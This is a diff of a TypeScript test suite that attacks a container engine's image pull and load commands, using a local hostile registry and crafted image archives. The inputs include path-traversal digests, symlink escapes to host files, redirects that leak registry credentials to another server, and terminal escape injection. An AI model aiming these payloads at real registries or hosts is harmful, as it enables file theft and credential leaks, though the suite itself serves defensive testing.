@@ -5,15 +5,15 @@ import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { dockerArchive } from '../support/image-archive.js';
 import { OciLayout, sha256 } from '../support/oci-layout.js';
-import { LyingRegistry, PASSWORD, USER } from '../support/registry.js';
+import { HostileRegistry, PASSWORD, USER } from '../support/registry.js';
 import { memberBlocks, tar } from '../support/tar.js';
 import { type Attack, hasControlCharacters } from './attack.js';
-import type { Scene } from './scene.js';
+import type { AttackRun } from './attack-run.js';
 
 /** A registry that lies, and archives of images that do. */
 
 interface Setting {
-  registry: LyingRegistry;
+  registry: HostileRegistry;
   layout: OciLayout;
   /** What the attacker's own second server was sent. */
   elsewhere: { url: string; heard: IncomingHttpHeaders[] };
@@ -22,7 +22,10 @@ interface Setting {
 }
 
 /** With a registry of one image, `app:1`. */
-async function withRegistry(scene: Scene, use: (setting: Setting) => Promise<unknown>): Promise<unknown> {
+async function withRegistry(
+  attempt: AttackRun,
+  use: (setting: Setting) => Promise<unknown>,
+): Promise<unknown> {
   const layout = new OciLayout();
   const content = `${randomBytes(8).toString('hex')}\n`;
   const image = layout.image(
@@ -38,7 +41,7 @@ async function withRegistry(scene: Scene, use: (setting: Setting) => Promise<unk
     },
     '1',
   );
-  const registry = new LyingRegistry(layout);
+  const registry = new HostileRegistry(layout);
   const heard: IncomingHttpHeaders[] = [];
   const other = createServer(({ headers }, response) => {
     heard.push(headers);
@@ -48,7 +51,7 @@ async function withRegistry(scene: Scene, use: (setting: Setting) => Promise<unk
   await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
   const name = `${registry.host}/app:1`;
   const pull = (...flags: string[]) =>
-    scene.command(['pull', '--tls-verify=false', ...flags, name], { deadline: 45_000 });
+    attempt.command(['pull', '--tls-verify=false', ...flags, name], { deadline: 45_000 });
   try {
     const url = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
     return await use({ registry, layout, image, pull, elsewhere: { url, heard } });
@@ -56,7 +59,7 @@ async function withRegistry(scene: Scene, use: (setting: Setting) => Promise<unk
     registry.stop();
     other.closeAllConnections();
     other.close();
-    await scene.engine.command(['rmi', '-f', name]);
+    await attempt.engine.command(['rmi', '-f', name]);
   }
 }
 
@@ -73,43 +76,43 @@ function attack(
 }
 
 export const REMOTE: Attack[] = [
-  attack('a layer or a config of another content than its digest', 'registry', async (scene) => {
+  attack('a layer or a config of another content than its digest', 'registry', async (attempt) => {
     // Each of an image of its own: what came honestly is not asked for again.
     for (const partOf of [
       (image: Setting['image']) => image.layers[0],
       (image: Setting['image']) => image.config,
     ]) {
-      const isTaken = await withRegistry(scene, async ({ registry, image, pull }) => {
+      const isTaken = await withRegistry(attempt, async ({ registry, image, pull }) => {
         const part = partOf(image) ?? image.config;
-        registry.lies.set(blob(part), ({ response }) => response.end(Buffer.alloc(part.size, 'x')));
+        registry.overrides.set(blob(part), ({ response }) => response.end(Buffer.alloc(part.size, 'x')));
         return (await pull()).status === 0;
       });
       if (isTaken === true) return true;
     }
     return false;
   }),
-  attack('a manifest that is not what its digest says', 'registry', (scene) =>
-    withRegistry(scene, async ({ registry, image, layout }) => {
+  attack('a manifest that is not what its digest says', 'registry', (attempt) =>
+    withRegistry(attempt, async ({ registry, image, layout }) => {
       const evil = layout.blobs.get(image.manifest.digest)?.toString().replace('{', '{ ') ?? '';
       const { mediaType } = image.manifest;
-      registry.lies.set(`/v2/app/manifests/${image.manifest.digest}`, ({ response }) =>
+      registry.overrides.set(`/v2/app/manifests/${image.manifest.digest}`, ({ response }) =>
         response
           .writeHead(200, { 'content-type': mediaType, 'docker-content-digest': image.manifest.digest })
           .end(evil),
       );
       const name = `${registry.host}/app@${image.manifest.digest}`;
-      const { status } = await scene.command(['pull', '--tls-verify=false', name]);
+      const { status } = await attempt.command(['pull', '--tls-verify=false', name]);
       return status === 0;
     }),
   ),
   attack(
     'a manifest that is an index too, to be read in two ways',
     'registry',
-    (scene) =>
-      withRegistry(scene, async ({ registry, image, layout, pull }) => {
+    (attempt) =>
+      withRegistry(attempt, async ({ registry, image, layout, pull }) => {
         const manifest = JSON.parse(layout.blobs.get(image.manifest.digest)?.toString() ?? '{}') as object;
         const both = Buffer.from(JSON.stringify({ ...manifest, manifests: [image.manifest] }));
-        registry.lies.set(MANIFEST, ({ response }) =>
+        registry.overrides.set(MANIFEST, ({ response }) =>
           response.writeHead(200, { 'content-type': image.manifest.mediaType }).end(both),
         );
         return (await pull()).status === 0;
@@ -119,15 +122,15 @@ export const REMOTE: Attack[] = [
   attack(
     'a redirect to a file of the host, and to other schemes',
     'registry',
-    (scene) =>
-      withRegistry(scene, async ({ registry, image, pull }) => {
+    (attempt) =>
+      withRegistry(attempt, async ({ registry, image, pull }) => {
         for (const location of [
-          `file://${scene.ground.victim}`,
-          `unix://${scene.ground.victim}`,
+          `file://${attempt.host.victim}`,
+          `unix://${attempt.host.victim}`,
           'data:,x',
           'gopher://127.0.0.1/',
         ]) {
-          registry.lies.set(blob(image.layers[0] ?? image.config), ({ response }) =>
+          registry.overrides.set(blob(image.layers[0] ?? image.config), ({ response }) =>
             response.writeHead(307, { location }).end(),
           );
           if ((await pull()).status === 0) return true;
@@ -139,15 +142,15 @@ export const REMOTE: Attack[] = [
   attack(
     'a redirect to another host, to have the password sent there',
     'registry',
-    (scene) =>
-      withRegistry(scene, async ({ registry, image, pull, elsewhere }) => {
+    (attempt) =>
+      withRegistry(attempt, async ({ registry, image, pull, elsewhere }) => {
         const basic = `Basic ${Buffer.from(`${USER}:${PASSWORD}`).toString('base64')}`;
-        registry.lies.set(MANIFEST, ({ request, response }) =>
+        registry.overrides.set(MANIFEST, ({ request, response }) =>
           request.headers.authorization === basic
             ? 'honest'
             : response.writeHead(401, { 'www-authenticate': 'Basic realm="x"' }).end(),
         );
-        registry.lies.set(blob(image.config), ({ response }) =>
+        registry.overrides.set(blob(image.config), ({ response }) =>
           response.writeHead(307, { location: `${elsewhere.url}/blob` }).end(),
         );
         await pull('--creds', `${USER}:${PASSWORD}`);
@@ -158,8 +161,8 @@ export const REMOTE: Attack[] = [
   attack(
     'a layer with addresses of its own, which ask for the password',
     'registry',
-    (scene) =>
-      withRegistry(scene, async ({ registry, image, layout, pull, elsewhere }) => {
+    (attempt) =>
+      withRegistry(attempt, async ({ registry, image, layout, pull, elsewhere }) => {
         const manifest = JSON.parse(layout.blobs.get(image.manifest.digest)?.toString() ?? '{}') as {
           layers: object[];
         };
@@ -167,13 +170,13 @@ export const REMOTE: Attack[] = [
         const layers = manifest.layers.map((layer) => ({
           ...layer,
           mediaType,
-          urls: [`${elsewhere.url}/layer`, `file://${scene.ground.victim}`],
+          urls: [`${elsewhere.url}/layer`, `file://${attempt.host.victim}`],
         }));
         const bytes = Buffer.from(JSON.stringify({ ...manifest, layers }));
-        registry.lies.set(MANIFEST, ({ response }) =>
+        registry.overrides.set(MANIFEST, ({ response }) =>
           response.writeHead(200, { 'content-type': image.manifest.mediaType }).end(bytes),
         );
-        registry.lies.set(blob(image.layers[0] ?? image.config), ({ response }) =>
+        registry.overrides.set(blob(image.layers[0] ?? image.config), ({ response }) =>
           response.writeHead(404).end(),
         );
         await pull('--creds', `${USER}:${PASSWORD}`);
@@ -184,15 +187,15 @@ export const REMOTE: Attack[] = [
   attack(
     'blobs and answers without an end',
     'registry',
-    async (scene) => {
+    async (attempt) => {
       const cases = [
         (image: Setting['image']) => blob(image.layers[0] ?? image.config),
         (image: Setting['image']) => blob(image.config),
         () => MANIFEST,
       ];
       for (const pathOf of cases) {
-        const isLost = await withRegistry(scene, async ({ registry, image, pull }) => {
-          registry.lies.set(pathOf(image), ({ response }) => {
+        const isLost = await withRegistry(attempt, async ({ registry, image, pull }) => {
+          registry.overrides.set(pathOf(image), ({ response }) => {
             response.writeHead(200, { 'content-type': image.manifest.mediaType });
             sendLong(response);
           });
@@ -201,22 +204,22 @@ export const REMOTE: Attack[] = [
         });
         if (isLost === true) return true;
       }
-      const { folder } = scene.engine.home;
-      return sizeOf(join(folder, scene.engine.name === 'foster' ? 'data' : 'podman')) > 250 * 2 ** 20;
+      const { folder } = attempt.engine.home;
+      return sizeOf(join(folder, attempt.engine.name === 'foster' ? 'data' : 'podman')) > 250 * 2 ** 20;
     },
     { aim: 'exhaustion', reference: 'CVE-2024-3727 (its class)' },
   ),
   attack(
     'a digest that is a path',
     'registry',
-    (scene) =>
-      withRegistry(scene, async ({ registry, image, layout, pull }) => {
+    (attempt) =>
+      withRegistry(attempt, async ({ registry, image, layout, pull }) => {
         const manifest = JSON.parse(layout.blobs.get(image.manifest.digest)?.toString() ?? '{}') as {
           layers: object[];
           config: object;
         };
         const evil = [
-          `sha256:../../../../../../../..${scene.ground.victim}`,
+          `sha256:../../../../../../../..${attempt.host.victim}`,
           `sha256:${'../'.repeat(20)}`,
           '../../x:abc',
           'sha256:',
@@ -226,7 +229,7 @@ export const REMOTE: Attack[] = [
             { ...manifest, layers: manifest.layers.map((layer) => ({ ...layer, digest })) },
             { ...manifest, config: { ...manifest.config, digest } },
           ]) {
-            registry.lies.set(MANIFEST, ({ response }) =>
+            registry.overrides.set(MANIFEST, ({ response }) =>
               response
                 .writeHead(200, { 'content-type': image.manifest.mediaType })
                 .end(JSON.stringify(document)),
@@ -238,19 +241,19 @@ export const REMOTE: Attack[] = [
       }),
     { aim: 'host write', reference: 'CVE-2024-3727' },
   ),
-  attack('control characters in what a registry says', 'registry', (scene) =>
-    withRegistry(scene, async ({ registry, image, pull }) => {
+  attack('control characters in what a registry says', 'registry', (attempt) =>
+    withRegistry(attempt, async ({ registry, image, pull }) => {
       const evil = '\x1b]0;evil\x07\x1b[2J';
       const errors = JSON.stringify({ errors: [{ code: `X${evil}`, message: evil, detail: evil }] });
-      registry.lies.set(MANIFEST, ({ response }) => response.writeHead(403).end(errors));
+      registry.overrides.set(MANIFEST, ({ response }) => response.writeHead(403).end(errors));
       const first = await pull();
-      registry.lies.set(MANIFEST, ({ response }) =>
+      registry.overrides.set(MANIFEST, ({ response }) =>
         response
           .writeHead(200, { 'content-type': `text/x${encodeURIComponent('\x1b')}` })
           .end(`{"mediaType":"${'\\u001b'}[2J","x":1}`),
       );
       const second = await pull();
-      registry.lies.set(MANIFEST, ({ response }) =>
+      registry.overrides.set(MANIFEST, ({ response }) =>
         response.writeHead(200, { 'content-type': image.manifest.mediaType }).end('{\x1b[2J'),
       );
       const third = await pull();
@@ -260,32 +263,32 @@ export const REMOTE: Attack[] = [
   attack(
     'an archive whose index names files of the host, by .. and by links',
     'archive',
-    async (scene) => {
-      const { victim } = scene.ground;
+    async (attempt) => {
+      const { victim } = attempt.host;
       const up = `../../../../../../../../../..${victim}`;
       const lists = [
-        [{ Config: up, RepoTags: [`localhost/${scene.token}:x`], Layers: [up] }],
+        [{ Config: up, RepoTags: [`localhost/${attempt.token}:x`], Layers: [up] }],
         [{ Config: victim, RepoTags: null, Layers: [victim] }],
-        [{ Config: 'c.json', RepoTags: [`localhost/${scene.token}:x`], Layers: ['l.tar'] }],
+        [{ Config: 'c.json', RepoTags: [`localhost/${attempt.token}:x`], Layers: ['l.tar'] }],
       ];
       const config = JSON.stringify({
         os: 'linux',
         architecture: 'amd64',
         config: {},
-        rootfs: { type: 'layers', diff_ids: [sha256(Buffer.from(`${scene.ground.secret}\n`))] },
+        rootfs: { type: 'layers', diff_ids: [sha256(Buffer.from(`${attempt.host.secret}\n`))] },
       });
       for (const list of lists) {
         const archive = tar(
           { name: 'manifest.json', content: JSON.stringify(list) },
           { name: 'c.json', content: config },
           { name: 'l.tar', type: '2', target: victim },
-          { name: 'x', type: '2', target: scene.ground.folder },
+          { name: 'x', type: '2', target: attempt.host.folder },
           { name: 'x/new', content: 'x' },
           { name: `${up}-new`, content: 'x' },
         );
-        const { output } = await scene.command(['load'], { input: archive });
+        const { output } = await attempt.command(['load'], { input: archive });
         const name = /localhost\/attack[0-9a-f]+:x/.exec(output)?.[0];
-        if (name !== undefined) scene.reveal((await scene.engine.command(['save', name])).output);
+        if (name !== undefined) attempt.reveal((await attempt.engine.command(['save', name])).output);
       }
     },
     { aim: 'host read', reference: 'CVE-2014-9356' },
@@ -293,32 +296,32 @@ export const REMOTE: Attack[] = [
   attack(
     'an OCI folder whose blobs are links to files of the host',
     'archive',
-    async (scene) => {
+    async (attempt) => {
       const layout = new OciLayout();
       layout.image(
-        { layers: [{ members: [{ name: 'f', content: scene.token }], compression: 'none' }] },
-        `localhost/${scene.token}:oci`,
+        { layers: [{ members: [{ name: 'f', content: attempt.token }], compression: 'none' }] },
+        `localhost/${attempt.token}:oci`,
       );
-      const folder = layout.write(join(scene.ground.work, 'oci'));
+      const folder = layout.write(join(attempt.host.work, 'oci'));
       for (const digest of layout.blobs.keys()) {
         const path = join(folder, 'blobs/sha256', digest.slice('sha256:'.length));
         rmSync(path);
-        symlinkSync(scene.ground.victim, path);
-        const { output } = await scene.command(['load', '-i', folder]);
-        scene.reveal(output);
+        symlinkSync(attempt.host.victim, path);
+        const { output } = await attempt.command(['load', '-i', folder]);
+        attempt.reveal(output);
       }
-      const other = join(scene.ground.work, 'oci-index');
+      const other = join(attempt.host.work, 'oci-index');
       mkdirSync(other);
       writeFileSync(join(other, 'oci-layout'), '{"imageLayoutVersion":"1.0.0"}');
-      symlinkSync(scene.ground.victim, join(other, 'index.json'));
-      await scene.command(['load', '-i', other]);
+      symlinkSync(attempt.host.victim, join(other, 'index.json'));
+      await attempt.command(['load', '-i', other]);
     },
     { aim: 'host read' },
   ),
   attack(
     'an archive that goes on for ever in its index, its names or its members',
     'archive',
-    async (scene) => {
+    async (attempt) => {
       const many = Array.from({ length: 60_000 }, (_, index) =>
         memberBlocks({ name: `${index}`, content: '' }),
       );
@@ -336,30 +339,30 @@ export const REMOTE: Attack[] = [
         ),
       ];
       for (const input of archives) {
-        const { isTooLate, output } = await scene.command(['load'], { input, deadline: 60_000 });
+        const { isTooLate, output } = await attempt.command(['load'], { input, deadline: 60_000 });
         if (isTooLate || /unexpected error|panic:|heap out of memory|stack size/.test(output)) return true;
       }
       return false;
     },
     { aim: 'exhaustion' },
   ),
-  attack('names in an archive with control characters, .. and options', 'archive', async (scene) => {
+  attack('names in an archive with control characters, .. and options', 'archive', async (attempt) => {
     const names = [
       '\x1b[2J:1',
       '../../../etc/x:1',
       '--help:1',
       'a/../../b:1',
-      `localhost/${scene.token}:../../x`,
-      `localhost/${scene.token}:\x1b`,
+      `localhost/${attempt.token}:../../x`,
+      `localhost/${attempt.token}:\x1b`,
       'LOUD:1',
     ];
     for (const name of names) {
-      const { output } = await scene.command(['load'], {
+      const { output } = await attempt.command(['load'], {
         input: dockerArchive({ names: [name], layers: [[]] }),
       });
       if (hasControlCharacters(output)) return true;
     }
-    const { output } = await scene.command(['images', '-a']);
+    const { output } = await attempt.command(['images', '-a']);
     return hasControlCharacters(output) || existsSync('/etc/x');
   }),
 ];
